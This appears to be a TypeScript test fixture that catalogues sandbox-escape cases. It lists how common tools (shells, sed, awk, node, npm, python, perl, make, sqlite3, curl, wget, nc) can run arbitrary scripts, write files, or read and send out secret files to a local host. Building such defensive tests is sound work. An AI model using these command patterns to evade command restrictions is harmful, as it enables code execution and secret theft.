import { type Escape, escapes } from './escape.ts'

/** Programs that run others, or code that they are given. */
export const programEscapes: readonly Escape[] = [
  ...escapes(
    'it runs the program that is named after it',
    `env | ./evil.sh
     env | -S "./evil.sh"
     env | -i ./evil.sh
     nice | ./evil.sh
     nohup | ./evil.sh
     timeout | 5 ./evil.sh
     setsid | -w ./evil.sh
     stdbuf | -o0 ./evil.sh
     ionice | -c3 ./evil.sh
     chrt | -o 0 ./evil.sh
     taskset | 1 ./evil.sh
     setpriv | ./evil.sh
     prlimit | --nofile=64 ./evil.sh
     flock | lock ./evil.sh
     script | -qc ./evil.sh /dev/null
     run-parts | parts
     xargs | ./evil.sh
     xargs | -a a.txt ./evil.sh
     xargs | -a OUT/secret echo
     xargs | --arg-file=OUT/secret echo`,
  ),
  ...escapes(
    'it is a shell, or has one inside',
    `sh | -c ./evil.sh
     sh | evil.sh
     bash | -c ./evil.sh
     bash | --rcfile evil.sh -i -c true
     dash | -c ./evil.sh
     sed | "1e ./evil.sh" a.txt
     sed | "s/one/.\\/evil.sh/e" a.txt
     sed | -n "w OUT/mark" a.txt
     sed | "s/one/x/w OUT/mark" a.txt
     sed | -f evil.sed a.txt
     sed | -i s/mine/x/ OUT/victim
     sed | --in-place s/mine/x/ OUT/victim
     sed | --in-pl s/mine/x/ OUT/victim
     sed | -n "r OUT/secret" a.txt
     sed | -n p OUT/secret
     awk | "BEGIN { system(\\"./evil.sh\\") }"
     awk | "BEGIN { print 1 > \\"OUT/mark\\" }"
     awk | "BEGIN { print 1 | \\"./evil.sh\\" }"
     awk | "BEGIN { while ((getline l < \\"OUT/secret\\") > 0) print l }"
     awk | "BEGIN { \\"./evil.sh\\" | getline }"
     awk | -f evil.awk
     awk | 1 OUT/secret`,
  ),
  ...escapes(
    'it runs any code',
    `node | -e "require('fs').writeFileSync('OUT/mark', '')"
     node | -p "require('fs').readFileSync('OUT/secret', 'utf8')"
     node | --eval "require('fs').writeFileSync('OUT/mark', '')"
     node | -r ./evil.cjs -e 0
     node | --require=./evil.cjs a.cjs
     node | --import ./evil.cjs a.cjs
     node | --import=./evil.cjs a.cjs
     node | --loader ./evil.cjs a.cjs
     node | evil.cjs
     node --test | evil.cjs
     node --test | --test-reporter=./evil.cjs a.cjs
     node --test | --test-reporter=spec --test-reporter-destination=OUT/mark a.cjs
     node --test | --experimental-test-coverage --test-global-setup=./evil.cjs a.cjs
     node | --run evil
     node | --cpu-prof --cpu-prof-dir=OUT a.cjs
     node | --report-on-signal --heap-prof --heap-prof-dir=OUT a.cjs
     node | --redirect-warnings=OUT/mark --trace-warnings warn.cjs
     npm run | evil
     npm exec | -c ./evil.sh
     npm | test --script-shell=./evil.sh
     npm pack | --silent --pack-destination OUT
     python3 | -c "open('OUT/mark', 'w')"
     python3 | -m evil
     python3 | evil.py
     python3 -m | zipfile -c OUT/mark a.txt
     python3 -m | tarfile -e a.tar OUT
     python3 -m | json.tool a.json OUT/mark
     python3 -m | pdb -c "!open('OUT/mark', 'w')" -c q evil.py
     python3 -m | pytest -p evil
     python3 -m | pytest --rootdir=OUT -c evil.ini
     python3 -m | pytest --junitxml=OUT/mark
     perl | -e "open(F, '>', 'OUT/mark')"
     perl | -ne print OUT/secret
     perl | -i -pe s/mine/x/ OUT/victim
     perl | -I. -MEvil -e 1
     perl | -d:Evil -I. a.cjs
     make | -f evil.mk
     make | '--eval=$(shell ./evil.sh)'
     make | SHELL=./evil.sh -f plain.mk
     make | -C OUT
     jq | -R . OUT/secret
     jq | -n --rawfile x OUT/secret '$x'
     sqlite3 | x.db ".shell ./evil.sh"
     sqlite3 | x.db ".output OUT/mark" "select 1"`,
  ),
  ...escapes(
    'it carries data to other machines, or writes what comes back',
    `curl | -s http://127.0.0.1:PORT/x
     curl | -s -o OUT/mark http://127.0.0.1:PORT/x
     curl | -s --output OUT/mark http://127.0.0.1:PORT/x
     curl | -s -d @OUT/secret http://127.0.0.1:PORT/x
     curl | -s -T OUT/secret http://127.0.0.1:PORT/x
     curl | -s file://OUT/secret
     curl | -s -K evil.curl
     wget | -q -O OUT/mark http://127.0.0.1:PORT/x
     wget | -q --post-file=OUT/secret http://127.0.0.1:PORT/x
     wget | -q --use-askpass=./evil.sh http://127.0.0.1:PORT/x
     nc | -w 1 127.0.0.1 PORT
     openssl | s_client -connect 127.0.0.1:PORT`,
  ),
]
